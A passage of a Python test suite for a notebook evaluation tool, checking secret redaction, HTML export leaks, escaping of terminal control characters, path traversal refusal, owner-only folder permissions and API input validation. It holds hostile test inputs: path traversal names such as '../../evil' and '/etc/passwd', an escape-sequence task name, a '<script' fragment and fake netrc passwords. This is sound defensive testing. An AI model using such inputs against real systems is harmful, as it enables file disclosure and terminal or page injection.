    "html-table-cells": "LeakyHtmlCell0123456", "application-json-pair": "LeakyJsonOut0123",
    "remote-anything": "evil.example", "script": "<script",
}


@pytest.mark.parametrize("name", SHARE_NEEDLES)
def test_a_shared_copy_keeps_nothing_of_each_channel(name: str, tmp_path: Path) -> None:
    source = tmp_path / "nb.ipynb"
    nbformat.write(share_notebook(), source)
    result = cli(["notebook", "share", source, "--output", tmp_path / "copy.ipynb", "--report", tmp_path / "r.json"])
    assert result.code == 0, result.stderr
    for written in ("copy.ipynb", "r.json"):
        assert SHARE_NEEDLES[name] not in (tmp_path / written).read_text(encoding="utf-8"), written
    assert SHARE_NEEDLES[name] not in result.stderr + result.stdout
    nbformat.validate(nbformat.read(tmp_path / "copy.ipynb", as_version=4))


def test_control_characters_in_harness_names_never_reach_a_document_or_an_error_line(golden: Flow,
                                                                                      tmp_path: Path) -> None:
    """A task name or a file name holding ESC, NUL or a bidi override: shown escaped in packet.md and
    in the one-line error, never as the raw character a terminal or an editor would act on."""
    flow, d = prepare(golden, tmp_path)
    row = json.loads(evidence(flow, d).read_text(encoding="utf-8").splitlines()[0])
    odd = {**row, "task_id": "evil\x1b[2J\x00\u202etask", "episode_index": 999}
    (d / "e.jsonl").write_text(json.dumps(odd) + "\n", encoding="utf-8")
    assert cli(import_jsonl(flow, d, d / "e.jsonl", d / "a.json")).code == 0
    assert cli(packet_over(flow, d, d / "a.json")).code == 0
    text = (d / "out.md").read_text(encoding="utf-8")
    assert "evil" in text and not re.search("[\x00\x1b\u202e]", text)
    result = cli(render_plan(d, d / "no\x1b[31mfolder" / "x.md"))
    assert result.code == 2 and "\x1b" not in result.stderr and "\\x1b" in result.stderr


def test_a_template_name_cannot_walk_out_of_the_templates_folder(tmp_path: Path) -> None:
    outside = tmp_path / "evil.ipynb"
    notebook_file(outside)
    relative = os.path.relpath(outside.with_suffix(""), Path(__file__).resolve().parents[1] / "templates")
    for name in (relative, "../../evil", "..", "/etc/passwd", "profile_to_brief/../../x"):
        result = cli(["notebook", "run", name, "--output-dir", tmp_path / "out"])
        assert result.code == 2 and len(result.stderr.splitlines()) == 1, result.stderr
    assert not (tmp_path / "out").exists()



# ------------------------------------------------------------------------------------------------
# Redaction both ways: netrc credentials caught, prose about passwords left alone
# ------------------------------------------------------------------------------------------------

# (text, the secret that must go, or None: the text must come out unchanged)
NETRC_DIRECTIONS: dict[str, tuple[str, str | None]] = {
    "netrc-one-line": ("machine api.wandb.ai login user password LeakyNetrcPass0123", "LeakyNetrcPass0123"),
    "netrc-password-line": ("machine h\n  login u\n  password LeakyNetrcLine0123\n", "LeakyNetrcLine0123"),
    "netrc-password-alone": ("password LeakyNetrcAlone0123", "LeakyNetrcAlone0123"),
    "netrc-passwd-then-account": ("machine h login u passwd LeakyNetrcAcct0123 account a", "LeakyNetrcAcct0123"),
    "netrc-two-machines": ("machine a login u password LeakyNetrcFirst0123 machine b login v password "
                           "LeakyNetrcSecond0123", "LeakyNetrcSecond0123"),
    "prose-password-reset": ("password reset required for the operator", None),
    "prose-capitalised": ("Password rotation is scheduled weekly", None),
    "prose-after-login": ("login screen password prompt timed out twice", None),
    "prose-mid-line": ("the operator said password changes need approval", None),
}


@pytest.mark.parametrize("name", NETRC_DIRECTIONS, ids=[f"leak:netrc:{n}" for n in NETRC_DIRECTIONS])
def test_netrc_credentials_go_and_prose_stays(name: str) -> None:
    text, secret = NETRC_DIRECTIONS[name]
    redacted, kinds = redact_text(text)
    if secret is None:
        assert (redacted, kinds) == (text, [])
    else:
        assert secret not in redacted and "netrc_password" in kinds


def test_prose_about_passwords_survives_an_import_and_netrc_does_not(golden: Flow, tmp_path: Path) -> None:
    flow, d = prepare(golden, tmp_path)
    row = json.loads(evidence(flow, d).read_text(encoding="utf-8").splitlines()[0])
    row["metadata"] = {**row["metadata"], "note": "password reset required for the operator",
                       "netrc": "machine h login u password LeakyNetrcPass0123"}
    (d / "e.jsonl").write_text(json.dumps(row) + "\n", encoding="utf-8")
    assert cli(import_jsonl(flow, d, d / "e.jsonl", d / "a.json")).code == 0
    written = (d / "a.json").read_text(encoding="utf-8")
    assert "password reset required for the operator" in written and "LeakyNetrcPass0123" not in written


# ------------------------------------------------------------------------------------------------
# Every folder a command or notebook makes is owner-only (LOCAL_PRIVATE)
# ------------------------------------------------------------------------------------------------

def test_an_output_folder_and_every_parent_it_creates_is_owner_only(tmp_path: Path) -> None:
    folder = files_module.make_private_folder(tmp_path / "a" / "b" / "c")
    for each in (tmp_path / "a", tmp_path / "a" / "b", folder):
        assert stat.S_IMODE(each.stat().st_mode) == 0o700, each


def test_sample_evidence_folders_are_owner_only(tmp_path: Path) -> None:
    import worldflux_nb as wf
    from worldflux_nb.sample.evidence import write_sample_evidence

    write_sample_evidence(wf.plan(wf.profile(), seed=1234, contracts=["reference"]), tmp_path / "s")
    folders = [p for p in (tmp_path / "s").rglob("*") if p.is_dir()] + [tmp_path / "s"]
    assert len(folders) > 1 and all(stat.S_IMODE(p.stat().st_mode) == 0o700 for p in folders)


def test_no_folder_is_made_around_make_private_folder() -> None:
    """Every place that makes a folder (package, templates, notebooks) goes through make_private_folder,
    except temporary folders, which are owner-only already."""
    root = Path(__file__).resolve().parents[1]
    sources = [*(root / "worldflux_nb").rglob("*.py")]
    texts = {p: p.read_text(encoding="utf-8") for p in sources}
    for notebook in [*(root / "templates").glob("*.ipynb"), *(root / "notebooks").glob("*.ipynb")]:
        texts[notebook] = "\n".join(c.source for c in nbformat.read(notebook, as_version=4).cells)
    allowed = {"worldflux_nb/io/files.py", "worldflux_nb/io/run_folder_guard.py",  # mode=0o700 given
               "worldflux_nb/io/notebook_runner.py", "worldflux_nb/io/notebook_html.py"}  # inside a TemporaryDirectory
    offenders = [str(p.relative_to(root)) for p, text in texts.items()
                 if re.search(r"\.mkdir\(|os\.makedirs\(", text) and str(p.relative_to(root)) not in allowed]
    assert offenders == []


# ------------------------------------------------------------------------------------------------
# The Python API: hostile values refused with InputError (one line, naming the field), never a
# pydantic ValidationError, TypeError or ValueError from deep inside
# ------------------------------------------------------------------------------------------------

def _api_cases() -> dict[str, tuple[Callable[[Path], Any], str]]:
    import worldflux_nb as wf

    def plan(**options: Any) -> Callable[[Path], Any]:
        return lambda d: wf.plan(d / "profile.json", **{"seed": 1234, **options})

    return {
        "plan-seed-text": (plan(seed="x"), "seed"),
        "plan-seed-fraction": (plan(seed=1.5), "seed"),
        "plan-seed-beyond-int64": (plan(seed=2**70), "seed"),
        "plan-seed-a-bool": (plan(seed=True), "seed"),
        "plan-seed-negative": (plan(seed=-1), "seed"),
        "plan-episodes-per-cell-text": (plan(episodes_per_cell="3"), "episodes_per_cell"),
        "plan-episodes-per-cell-fraction": (plan(episodes_per_cell=2.5), "episodes_per_cell"),
        "plan-min-episodes-a-bool": (plan(min_episodes_per_cell=True), "min_episodes_per_cell"),
        "plan-half-width-text": (plan(max_ci_half_width="0.1"), "max_ci_half_width"),
        "packet-interval-unknown": (lambda d: wf.packet(d / "plan.json", [d / "audit_libero.json"], interval="x"),
                                    "interval"),
        "load-a-list": (lambda d: (d / "x.json").write_text("[1]") and wf.load(d / "x.json"), "x.json"),
        "load-schema-a-number": (lambda d: (d / "x.json").write_text('{"schema_version": 5}') and wf.load(d / "x.json"),
                                 "schema_version"),
        "load-a-fifo": (lambda d: (os.mkfifo(d / "f.json"), wf.load(d / "f.json")), "f.json"),
        "compare-one-arm": (lambda d: wf.compare(d / "plan.json", {"a": [d / "audit_libero.json"]}), "arm"),
    }


API_CASES = _api_cases()


@pytest.mark.parametrize("name", API_CASES, ids=[f"api:{n}" for n in API_CASES])
def test_the_api_refuses_hostile_values_with_one_line(name: str, golden: Flow, tmp_path: Path) -> None:
    from worldflux_nb.errors import InputError

    _, d = prepare(golden, tmp_path)
    call, field = API_CASES[name]
    with pytest.raises(InputError) as caught:
        call(d)
    line = caught.value.one_line()
    assert "\n" not in line and field in line, line


def test_the_api_takes_one_audit_input_per_arm_without_a_list(golden: Flow, tmp_path: Path) -> None:
    """A path given alone is one audit input (it was iterated as characters: '/: is not a regular file')."""
    import worldflux_nb as wf
    from worldflux_nb.errors import InputError

    flow, d = prepare(golden, tmp_path)
    first, second = (flow.audit(probe) for probe in flow.probes[:2])
    comparison = wf.compare(d / "plan.json", {"a": str(first), "b": [second]})
    assert [arm.name for arm in comparison.arms] == ["a", "b"]
    with pytest.raises(InputError, match=r"arms\.b\[0\]\.audit_digest: is the same evidence as arm 'a'"):
        wf.compare(d / "plan.json", {"a": str(first), "b": [first]})  # one file in two arms


def test_an_html_report_carries_no_secret_and_no_host_path(tmp_path: Path) -> None:
    """`notebook html` is an export: every shape in a code cell's source, its printed output, its
    text/plain and Markdown outputs and an error's traceback, and every secret shape in an HTML output."""
    secrets = " ".join(text for kind, (text, _) in SHAPES.items() if kind not in PATH_SHAPES)
    nb = nbformat.v4.new_notebook()
    code = nbformat.v4.new_code_cell("# " + ALL_SHAPES)
    code.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text=ALL_SHAPES),
        nbformat.v4.new_output("display_data", data={"text/plain": ALL_SHAPES, "text/markdown": ALL_SHAPES}),
        nbformat.v4.new_output("display_data", data={"text/html": f"<p>{html_module.escape(secrets)}</p>"}),
        nbformat.v4.new_output("error", ename="ValueError", evalue="x", traceback=[ALL_SHAPES]),
    ]
    nb.cells = [code, nbformat.v4.new_markdown_cell(ALL_SHAPES)]
    nbformat.write(nb, tmp_path / "nb.ipynb")
    result = cli(["notebook", "html", tmp_path / "nb.ipynb", "--output", tmp_path / "r.html"])
    assert result.code == 0, result.stderr
    written = html_module.unescape((tmp_path / "r.html").read_text(encoding="utf-8"))
    leaks = [kind for kind, (_, needle) in SHAPES.items() if needle in written]
    assert leaks == []


def test_a_notebook_run_refuses_inputs_inside_its_own_output_folder(golden: Flow, tmp_path: Path) -> None:
    """A rerun that reads its earlier run's audit input, or re-executes its own executed notebook into
    the same folder, would read from (or write over) what the run replaces: refused before a kernel."""
    flow, d = prepare(golden, tmp_path)
    before = snapshot(d)
    audit = d / flow.audit(flow.probes[0]).name
    for argv, field in (
            (["notebook", "run", "--output-dir", d, "-p", "audit_inputs", json.dumps([str(audit)])], "-p audit_inputs"),
            (["notebook", "run", notebook_file(d / "nb.ipynb"), "--output-dir", d], "TEMPLATE")):
        before = snapshot(d)
        result = cli(argv)
        assert result.code == 2 and len(result.stderr.splitlines()) == 1, result.stderr
        assert field in result.stderr and "inside --output-dir" in result.stderr
        assert snapshot(d) == before
